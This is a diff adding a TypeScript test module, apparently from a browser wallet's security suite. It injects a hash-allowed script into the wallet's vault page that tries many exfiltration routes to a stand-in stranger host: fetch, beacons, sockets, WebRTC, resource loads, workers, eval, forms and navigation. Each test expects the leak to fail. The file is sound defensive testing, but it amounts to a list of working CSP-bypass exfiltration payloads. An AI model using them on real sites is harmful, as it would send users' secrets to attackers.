@@ -1,0 +1,173 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attempts are texts of scripts, templates and all
+import { createHash } from 'node:crypto'
+import type { Ground, Scenario } from '../scenario.ts'
+import type { Tampering } from '../stage/serveFront.ts'
+import { openWallet, until } from '../stage/visitor.ts'
+
+/**
+ * Code of an attacker inside the vault's document, which wants to send what it has found. The document is the real one,
+ * with every header as it is, but that the policy also lists the hash of the attacker's script: what holds is the policy
+ * and the frame that the wallet has made, and nothing else.
+ *
+ * Attempts are texts: each may use `leak(name)`, an address of a stranger that nobody may ever be asked for.
+ */
+export type Attempts = Readonly<Record<string, string>>
+
+const ways = {
+  requests: {
+    fetch: "fetch(leak('fetch'), { mode: 'no-cors' })",
+    'fetch kept alive': "fetch(leak('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
+    'fetch later': "fetchLater(leak('later'), { activateAfter: 0 })",
+    XMLHttpRequest: "{ const request = new XMLHttpRequest(); request.open('GET', leak('xhr')); request.send() }",
+    beacon: "navigator.sendBeacon(leak('beacon'), 'x')",
+    WebSocket: "new WebSocket(leak('socket').replace('http', 'ws'))",
+    EventSource: "new EventSource(leak('events'))",
+    WebTransport: "new WebTransport(leak('transport').replace('http:', 'https:'))",
+    'own origin': "fetch('/leak/own')",
+    ping: "{ const a = document.createElement('a'); a.href = '#x'; a.ping = leak('ping'); document.body.append(a); a.click() }",
+    report:
+      "new ReportingObserver(() => {}).observe(), document.querySelector('head').insertAdjacentElement('beforeend', Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `report-uri ${leak('report')}` }))",
+  },
+  elements: {
+    img: 'new Image().src = leak("img")',
+    'img set': "document.body.append(Object.assign(new Image(), { srcset: leak('srcset') + ' 1x' }))",
+    script:
+      "document.body.append(Object.assign(document.createElement('script'), { text: '' })), document.body.lastChild.setAttribute('src', leak('script'))",
+    style:
+      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: leak('style') }))",
+    'style import':
+      "document.head.append(Object.assign(document.createElement('style'), { textContent: `@import url(${leak('import')});` }))",
+    'style sheet object':
+      "{ const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { background: url(${leak('sheet')}) }`); document.adoptedStyleSheets = [sheet] }",
+    'style property': "document.body.style.backgroundImage = `url(${leak('property')})`",
+    font: "new FontFace('x', `url(${leak('font')})`).load()",
+    audio: "new Audio(leak('audio')).load()",
+    video:
+      "document.body.append(Object.assign(document.createElement('video'), { poster: leak('poster'), src: leak('video') }))",
+    track:
+      "{ const video = document.createElement('video'); video.append(Object.assign(document.createElement('track'), { src: leak('track'), default: true })); document.body.append(video) }",
+    object: "document.body.append(Object.assign(document.createElement('object'), { data: leak('object') }))",
+    embed: "document.body.append(Object.assign(document.createElement('embed'), { src: leak('embed') }))",
+    svg: "{ const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', leak('svg')); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(image); document.body.append(svg) }",
+    frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: leak('frame') }))",
+    ...Object.fromEntries(
+      ['prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'icon'].map((rel) => [
+        rel,
+        `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', as: 'script', href: leak('${rel}') }))`,
+      ]),
+    ),
+    'speculation rules':
+      "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text: JSON.stringify({ prefetch: [{ urls: [leak('speculation')] }] }) }))",
+  },
+  code: {
+    worker: "new Worker(leak('worker'))",
+    'worker of a blob': "new Worker(URL.createObjectURL(new Blob([`fetch('${leak('blob')}')`])))",
+    'shared worker': "new SharedWorker(leak('shared'))",
+    'service worker': "navigator.serviceWorker.register('/leak/service')",
+    worklet: "new AudioContext().audioWorklet.addModule(leak('worklet'))",
+    import: "import(leak('module'))",
+    'import of data': "import(`data:text/javascript,fetch('${leak('data')}')`)",
+    eval: "eval(`fetch('${leak('eval')}')`)",
+    Function: "new Function(`fetch('${leak('function')}')`)()",
+    'text in a timer': "setTimeout(`fetch('${leak('timer')}')`)",
+    'inline script':
+      "document.body.append(Object.assign(document.createElement('script'), { text: `fetch('${leak('inline')}')` }))",
+    'handler attribute': "document.body.setAttribute('onclick', `fetch('${leak('handler')}')`), document.body.click()",
+    markup: "document.body.innerHTML = `<img src=x onerror=\"fetch('${leak('markup')}')\">`",
+    'document written in a frame':
+      "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src=\"${leak('srcdoc')}\">` }))",
+    'about:blank frame':
+      "{ const frame = document.body.appendChild(document.createElement('iframe')); frame.contentWindow.fetch(leak('blank'), { mode: 'no-cors' }) }",
+  },
+  peers: {
+    WebRTC:
+      "{ const { hostname, port } = new URL(leak('')); const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) }",
+    'storage access': "document.requestStorageAccess().then(() => fetch(leak('access')))",
+    opener: "parent.parent.postMessage('secret', '*'), top.postMessage('secret', '*')",
+    clipboard: "navigator.clipboard.writeText('secret')",
+  },
+  'ways out of the frame': {
+    window: "window.open(leak('window'))",
+    'top window': "top.location.href = leak('top')",
+    'parent window': "parent.location.href = leak('parent')",
+    'link to a new window':
+      "{ const a = Object.assign(document.createElement('a'), { href: leak('link'), target: '_blank' }); document.body.append(a); a.click() }",
+    download:
+      "{ const a = Object.assign(document.createElement('a'), { href: leak('download'), download: 'x' }); document.body.append(a); a.click() }",
+    form: "{ const form = Object.assign(document.createElement('form'), { action: leak('form') }); document.body.append(form); form.submit() }",
+    'form of a new window':
+      "{ const form = Object.assign(document.createElement('form'), { action: leak('form-blank'), target: '_blank' }); document.body.append(form); form.submit() }",
+  },
+  // Last: what works would end the others.
+  'its own address': {
+    refresh:
+      "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${leak('refresh')}` }))",
+    location: "location.href = leak('location')",
+  },
+} as const satisfies Record<string, Attempts>
+
+/** One classic script that makes every attempt, whatever becomes of the others. */
+export const scriptOf = (attempts: Attempts, stranger: string): string => `(() => {
+  const leak = (name) => ${JSON.stringify(`${stranger}/leak/`)} + name
+  const swallow = (error) => void error
+  addEventListener('unhandledrejection', (event) => event.preventDefault())
+  const work = () => {
+    ${Object.values(attempts)
+      .map((attempt) => `try { ${attempt} } catch (error) { swallow(error) }`)
+      .join('\n')}
+    document.documentElement.dataset.attacked = 'yes'
+  }
+  if (document.body) work()
+  else addEventListener('DOMContentLoaded', work)
+})()`
+
+const hashOf = (script: string): string => `'sha256-${createHash('sha256').update(script).digest('base64')}'`
+
+/** The vault's document with one more script, which its policy lists. */
+export const withScript =
+  (script: string): Tampering =>
+  (path, served) => {
+    const policy = served.headers['content-security-policy']
+    if (!path.startsWith('/vault?') || policy === undefined) return served
+    return {
+      ...served,
+      headers: {
+        ...served.headers,
+        'content-security-policy': `${policy}`.replace('script-src ', `script-src ${hashOf(script)} `),
+      },
+      body: Buffer.from(served.body.toString().replace('</head>', () => `<script>${script}</script></head>`)),
+    }
+  }
+
+/** Long enough for a request to be there; the audit comes a second later, and looks again. */
+const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 300))
+
+const attackVault =
+  (attempts: Attempts): Scenario['attack'] =>
+  async (ground: Ground) => {
+    const { stage, openTab } = ground
+    stage.vaultFront.tamper(withScript(scriptOf(attempts, stage.urls.stranger)))
+    const tab = await openTab()
+    await openWallet(stage, tab)
+    // A document that went to its own address is gone, and has nothing more to tell.
+    let wasThere = false
+    await until(async () => {
+      const vault = tab.realms().find((realm) => realm.url().startsWith(stage.urls.vault))
+      if (vault === undefined) return wasThere
+      wasThere = true
+      return (
+        (await vault.evaluate(() => document.documentElement.dataset.attacked, undefined).catch(() => '')) === 'yes'
+      )
+    })
+    await settle()
+    stage.vaultFront.tamper(null)
+    return 'nothing'
+  }
+
+export const egressRows: readonly Scenario[] = Object.entries(ways).map(([name, attempts]) => ({
+  name: `from inside the vault: ${name} (${Object.keys(attempts).length} ways)`,
+  attack: attackVault(attempts),
+  gets: 'nothing',
+}))
+
+export const egressWays: Readonly<Record<string, Attempts>> = ways
